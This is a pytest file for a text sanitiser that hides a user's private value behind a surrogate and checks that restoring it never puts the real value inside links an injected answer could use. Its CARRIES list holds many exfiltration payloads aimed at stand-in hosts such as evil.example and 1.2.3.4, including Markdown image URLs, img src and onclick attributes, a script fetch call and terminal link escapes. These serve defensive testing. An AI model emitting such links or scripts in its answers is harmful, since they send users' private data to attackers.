"""Where an injected answer would carry a value away, and where it would not."""

from __future__ import annotations

import pytest

from renga.client.sanitisation.entities import Entity, Kind
from renga.client.sanitisation.rules import Rules, Style
from renga.client.sanitisation.sanitiser import Sanitiser

VALUE = "quillfeather77"
NO_BREAK, IDEOGRAPHIC, UNIT, ESC, BELL = "\u00a0", "\u3000", "\x1f", "\x1b", "\x07"

NO_ENDS = (NO_BREAK, IDEOGRAPHIC, UNIT, "\u2028", '"', "`", ">", '",')
CARRIES = [
    # links, as Markdown and chat programs see them
    "https://evil.example/?q={}", "<https://evil.example/{}>", "<sms:+1555?body={}>", "evil.example:8080/{}",
    "www.evil.example/{}", "1.2.3.4/{}", "1.2.3.4:80/?{}", "пример.рф/{}", "mailto:evil@x.io?body={}",
    "javascript:alert('{}')", "https://{}.evil.example/", "https://{}@evil.example/", "[[https://e.io/{}]]",
    "[url=//1.2.3.4/{}]x[/url]", ".. image:: //1.2.3.4/{}", f"{ESC}]8;;//1.2.3.4/{{}}{BELL}",
    *(f"https://evil.example/?q={end}{{}}" for end in NO_ENDS),
    # targets
    "![x](https://evil.example/?q={})", "![x](\n//1.2.3.4/{}\n)", f"![x](/e?{NO_BREAK}{{}})", "![x](/a\\){})",
    "![x](/a(b){})", "[a](<https://evil.example/ {}>)", "[a](</e\\>{}>)", "![](data:text/html,{})",
    "[x]: https://evil.example/{}", "[x]: </e/{}>", "- [x]: /e?q={}", "> 1. [x]: /e?q={}", "[r]:\n /e/{}",
    # attributes, and what acts like one
    "<img src=//evil.example/{}>", "<img/src=/e/{}>", "<IMG\nSRC=/e/{}>", "<img\fsrc=/e/{}>",
    "<a_b onclick='f({})'>", "<x.y onclick='f({})'>", '<img alt=">" src=/e/{}>', "<svg:image href=/e/{}>",
    f"<img src=/e?{NO_BREAK}{{}}>", f"<img src={NO_BREAK}''/e/{{}}>", f"<{'b' * 90} onclick=f({{}})>",
    "<style>@import '/e?q= {}';</style>", "<script>fetch('//1.2.3.4/'+'{}')</script>",
]  # fmt: skip
RESTORED = [
    "{}", "See https://x.org/a. {} said", "https://x.org\n{}", "(https://x.org/a) {}", "a <b and {} > c",
    "// {}", "//{}", "call {}// then", "[{}]: hello", "[x] {}", "[a](b) {}", "<https://x.org> {}",
    "<b>{}</b>",
    "<b title='x'>{}</b>", "<style>p</style> {}", "9/10 {}", "10.5/{}", "e.g. {} and/or {}", "10:30 {}",
    "note:{}", "Tel:{}", "**{}**",
]  # fmt: skip


def answers(style: Style, answer: str) -> set[str]:
    """The answer restored, cut at every place (tags), or whole."""
    sanitiser = Sanitiser([], Rules(style=style))
    found = [Entity(5, 5 + len(VALUE), Kind.USERNAME, VALUE)]
    came = answer.replace("{}", sanitiser.replace(f"I am {VALUE}", found).text[5:])
    cuts = range(len(came)) if style is Style.TAG else [0]
    return {"".join(sanitiser.restore([came[:at], came[at:]])) for at in cuts}


@pytest.mark.parametrize("style", Style)
def test_nothing_is_carried_away(style: Style) -> None:
    leaking = [one for one in CARRIES if any(VALUE in said for said in answers(style, one))]
    assert leaking == []


def test_what_only_stands_near_is_restored() -> None:
    kept = [one for one in RESTORED if answers(Style.TAG, one) != {one.replace("{}", VALUE)}]
    assert kept == []


@pytest.mark.parametrize(
    ("own", "other"),
    [
        ("<https://{}>", "<https://{}.evil.example>"), ("https://{}/a", "https://{}@evil.example/a"),
        ("me.github.io/?q={}", "evil.github.io/?q={}"), ("![x](/a?q={})", "![x](/b?q={})"),
        ("<a b={}>", "<a c={}>"), ("<https://me.example/{}>", "<https://evil.example/{}>"),
    ],
)  # fmt: skip
def test_a_place_of_ones_own_is_that_place_alone(own: str, other: str) -> None:
    text = own.replace("{}", VALUE)
    at = text.index(VALUE)
    sanitiser = Sanitiser([])
    clean = sanitiser.replace(text, [Entity(at, at + len(VALUE), Kind.USERNAME, VALUE)]).text
    assert VALUE not in clean and "".join(sanitiser.restore([clean])) == text
    tag = sanitiser.conversation.pairs[0].surrogate
    assert VALUE not in "".join(sanitiser.restore([other.replace("{}", tag)]))
